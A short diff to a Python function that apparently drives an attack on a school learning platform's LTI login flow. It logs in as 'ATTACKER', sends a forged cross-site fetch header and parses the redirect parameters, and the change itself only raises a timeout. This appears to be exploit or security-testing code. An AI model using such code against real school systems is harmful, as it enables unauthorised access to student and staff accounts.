@@ -49,7 +49,7 @@ def begin(school: School) -> Loot:
     fields = school.lms.platform.start_login(ATTACKER, "1")
     page = requests.get(
         f"{school.url}/lti/login?{urlencode({**fields, 'cairn_tried': '1'})}",
-        headers={"sec-fetch-site": "cross-site"}, timeout=10,
+        headers={"sec-fetch-site": "cross-site"}, timeout=30,
     ).text  # fmt: skip
     data = {name: unescape(value) for name, value in re.findall(r'data-(\w+)="([^"]*)"', page)}
     asked = dict(parse_qsl(urlsplit(data["next"]).query))
